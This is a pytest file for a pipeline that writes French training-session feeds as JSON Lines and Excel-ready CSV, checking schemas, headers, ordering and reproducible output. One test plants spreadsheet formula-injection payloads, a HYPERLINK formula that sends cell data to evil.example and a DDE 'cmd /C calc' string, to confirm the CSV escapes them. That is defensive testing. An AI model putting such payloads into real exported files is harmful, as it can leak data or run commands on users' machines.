"""The regional sites' feed: JSON Lines valid against its schema, CSV for Excel, same bytes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator
from sqlalchemy import Engine, orm

from pipelines.errors import ExportError
from pipelines.load.catalogue_feed import write_catalogue
from pipelines.load.db import open_session
from pipelines.load.feeds import ReleaseContext
from pipelines.load.kairos_feed import write_kairos
from pipelines.load.published import iter_published
from pipelines.load.sites_feed import csv_columns, feed_schema, write_sites
from pipelines.transform.bundle import ActionBundle
from tests.load.contexts import release

TODAY = dt.date(2025, 6, 1)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'


@pytest.fixture
def reader(published: Engine) -> Iterator[orm.Session]:
    """A read session on the published store, open for the whole test."""
    with open_session(published) as db:
        yield db


def validator(name: str) -> Draft202012Validator:
    schema = json.loads(feed_schema(name))
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def fas_key(code: str) -> tuple[int, ...]:
    return tuple(int(part) for part in code.split("-"))


def read_csv(path: Path) -> list[list[str]]:
    return list(
        csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";")
    )


def test_every_line_is_a_published_session_valid_against_the_schema(
    published: Engine, reader: orm.Session, tmp_path: Path
) -> None:
    files = write_sites(release(tmp_path, published, reader))

    folder = tmp_path / "sites-regionaux"
    assert [f.path for f in files] == [
        "sites-regionaux/sessions.jsonl",
        "sites-regionaux/sessions.schema.json",
        "sites-regionaux/sessions.csv",
        "sites-regionaux/sessions.csv.schema.json",
    ]
    published_schema = json.loads((folder / "sessions.schema.json").read_bytes())
    assert published_schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    check = validator("sites-regionaux-sessions.schema.json")
    records = [json.loads(line) for line in (folder / "sessions.jsonl").read_text().splitlines()]
    for record in records:
        errors = [f"{e.json_path}: {e.message}" for e in check.iter_errors(record)]
        assert not errors, (record["code_fas"], errors)
    sessions = [s.ref for b in iter_published(reader) for s in b.sessions]
    assert [r["code_fas"] for r in records] == sorted(sessions, key=fas_key)
    assert files[0].records == files[2].records == len(records) == 49
    first = records[0]
    assert first["lieu"]["geolocalisation"] is None
    assert first["code_fas"].startswith(first["code_fas_action"] + "-")
    assert first["referents"]["pmr"] and first["referents"]["pmr"]["nom"]  # published, by design
    assert any(r["informations_collectives"] for r in records)
    assert {r["recrutement"]["etat_recrutement"] for r in records} == {"ouvert", "fermé"}


def test_csv_for_excel_with_french_headers_and_the_records_order(
    published: Engine, reader: orm.Session, tmp_path: Path
) -> None:
    write_sites(release(tmp_path, published, reader))

    folder = tmp_path / "sites-regionaux"
    raw = (folder / "sessions.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfCode FAS session;Code FAS action;Programme;")
    assert b"\r\n" in raw
    rows = read_csv(folder / "sessions.csv")
    header, body = rows[0], rows[1:]
    assert header == [c.header for c in csv_columns()]
    assert {"Intitulé de la formation", "Date de début", "Informations collectives"} <= set(header)
    descriptor = json.loads((folder / "sessions.csv.schema.json").read_bytes())
    assert [f["name"] for f in descriptor["schema"]["fields"]] == header
    assert descriptor["dialect"]["delimiter"] == ";" and descriptor["encoding"] == "utf-8-sig"
    records = [json.loads(line) for line in (folder / "sessions.jsonl").read_text().splitlines()]
    assert [row[0] for row in body] == [r["code_fas"] for r in records]
    assert all(len(row) == len(header) for row in body)
    first, cells = records[0], dict(zip(header, body[0], strict=True))
    start = first["dates"]["date_debut"]
    assert cells["Date de début"] == f"{start[8:10]}/{start[5:7]}/{start[:4]}"
    assert cells["Formacodes"] == " | ".join(first["formation"]["formacodes"])
    assert cells["Certifiante"] in ("oui", "non")
    assert len(cells["Informations collectives"].split(" | ")) == len(
        first["informations_collectives"]
    )


def test_csv_columns_show_fields_of_the_record(
    published: Engine, reader: orm.Session, tmp_path: Path
) -> None:
    write_sites(release(tmp_path, published, reader))
    line = (tmp_path / "sites-regionaux" / "sessions.jsonl").read_text().splitlines()[0]
    record = json.loads(line)
    for column in csv_columns():
        value: object = record
        for key in column.source.split("."):
            assert isinstance(value, dict) and key in value, column
            value = value[key]


def test_text_a_spreadsheet_would_run_is_escaped_in_the_csv(
    published: Engine, reader: orm.Session, tmp_path: Path
) -> None:
    def hostile() -> Iterator[ActionBundle]:
        for index, bundle in enumerate(iter_published(reader)):
            if index == 0:
                bundle.formation["intitule_formation"] = HYPERLINK
                bundle.sessions[0].fields["lieu_commune"] = "@SUM(1+1)*cmd|' /C calc'!A0"
            yield bundle

    write_sites(release(tmp_path, published, reader, hostile))

    folder = tmp_path / "sites-regionaux"
    rows = read_csv(folder / "sessions.csv")
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["Intitulé de la formation"] == "'" + HYPERLINK
    assert cells["Commune du lieu"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    record = json.loads((folder / "sessions.jsonl").read_text().splitlines()[0])
    assert record["formation"]["intitule_formation"] == HYPERLINK  # JSON keeps the text as is


def test_same_store_same_bytes(published: Engine, reader: orm.Session, tmp_path: Path) -> None:
    write_sites(release(tmp_path / "a", published, reader))
    write_sites(release(tmp_path / "b", published, reader))
    write_sites(release(tmp_path / "b", published, reader))  # over the previous files

    first = sorted((tmp_path / "a").rglob("*"))
    assert [p.relative_to(tmp_path / "a") for p in first] == [
        p.relative_to(tmp_path / "b") for p in sorted((tmp_path / "b").rglob("*"))
    ]
    for path in first:
        if path.is_file():
            assert (
                path.read_bytes()
                == (tmp_path / "b" / path.relative_to(tmp_path / "a")).read_bytes()
            )


def test_an_empty_offer_gives_empty_feeds(published: Engine, tmp_path: Path) -> None:
    with open_session(published) as db:
        files = write_sites(release(tmp_path, published, db, offer=lambda: iter(())))
    folder = tmp_path / "sites-regionaux"
    assert (folder / "sessions.jsonl").read_bytes() == b""
    assert len(read_csv(folder / "sessions.csv")) == 1
    assert [f.records for f in files] == [0, 0, 0, 0]


@pytest.mark.parametrize("writer", ["sites", "kairos", "catalogue"])
def test_a_feed_that_cannot_be_written_raises_export_error(writer: str, tmp_path: Path) -> None:
    blocked = tmp_path / "release"
    blocked.write_text("a file where the release folder should be")
    context = ReleaseContext(
        run_id="test",
        export_date=TODAY,
        generated_at=dt.datetime(2025, 6, 1, 2, tzinfo=dt.UTC),
        folder=blocked,
        previous=None,
        offer=lambda: iter(()),
        session=lambda: None,  # type: ignore[arg-type,return-value]
        today=TODAY,
    )
    write = {"sites": write_sites, "kairos": write_kairos, "catalogue": write_catalogue}[writer]
    with pytest.raises(ExportError, match="écriture impossible"):
        write(context)
